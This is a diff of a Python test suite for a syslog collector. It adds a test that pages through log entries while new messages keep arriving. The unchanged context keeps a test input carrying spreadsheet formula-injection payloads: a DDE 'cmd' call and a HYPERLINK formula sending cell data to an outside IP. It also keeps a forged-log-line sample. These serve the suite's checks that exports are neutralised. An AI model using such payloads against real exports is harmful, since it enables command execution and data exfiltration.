@@ -1,12 +1,12 @@
 """What the cases of the corpus tell in words: messages over the limit are cut and the stream goes on, equal ones are all kept,
-lines and datagrams without a priority stay whole and in order, a search is literal and knows Japanese, two senders that
+lines and datagrams without a priority stay whole and in order, pages hold while more comes, a search is literal and knows Japanese, two senders that
 claim one host are told apart, and nothing in a message adds a line, a formula or a header to what is exported."""
 
 import csv
 import io
 import urllib.parse
 
-from azk import TLS, Product, run
+from azk import TLS, Product, run, wait_for
 
 FORMULA = b"<13>Mar 10 11:48:00 =cmd|'/c calc'!A1 +app: =HYPERLINK(\"http://203.0.113.66/?\"&A1,\"x\") -1+1 @SUM(A1)"
 TWO_LINES = (b"<13>Mar 10 11:48:01 h1 forged: login failed\n"
@@ -58,6 +58,29 @@ def claimed_hosts(box):
     return 2
 
 
+def pages_while_more_comes(box):
+    """A page at a time, newest first, with messages of the same device time coming in between."""
+    def more(n):
+        return box.send_udp([b"<13>Mar 10 11:47:30 h1 paged: row"] * n, source="127.0.68.1")
+
+    sent = more(300)
+    wait_for(lambda: len(everything(box)) == sent, "they are found")
+    wanted = {e["id"] for e in everything(box)}
+    seen, cursor = [], ""
+    while cursor is not None:
+        page = box.api("GET", f"/logs?limit=50&query=app_name:paged{cursor}")
+        seen += [e["id"] for e in page["entries"]]
+        sent += more(20)
+        wait_for(lambda: len(everything(box)) == sent, "more has come in")
+        cursor = f"&cursor={page['next']}" if page["next"] else None
+    assert len(seen) == len(set(seen)) == 300 and set(seen) == wanted, (len(seen), len(set(seen)))
+    return sent
+
+
+def everything(box):
+    return box.api("GET", "/logs?limit=1000&query=app_name:paged")["entries"]
+
+
 def main():
     with Product(TLS) as box:
         sent = over_the_limit(box) + equal_ones(box)
@@ -65,6 +88,7 @@ def main():
         sent += n + claimed_hosts(box)
         sent += box.send_udp([f"<13>1 - h text - - - {t}".encode() for t in TEXTS], source="127.0.64.1")
         sent += box.send_udp([FORMULA, TWO_LINES, HOST], source="127.0.69.1")
+        sent += pages_while_more_comes(box)
         box.assert_ledger(sent=sent)
 
         assert len(entries(box, "app_name:cmd")) == 20, "equal messages are all kept"
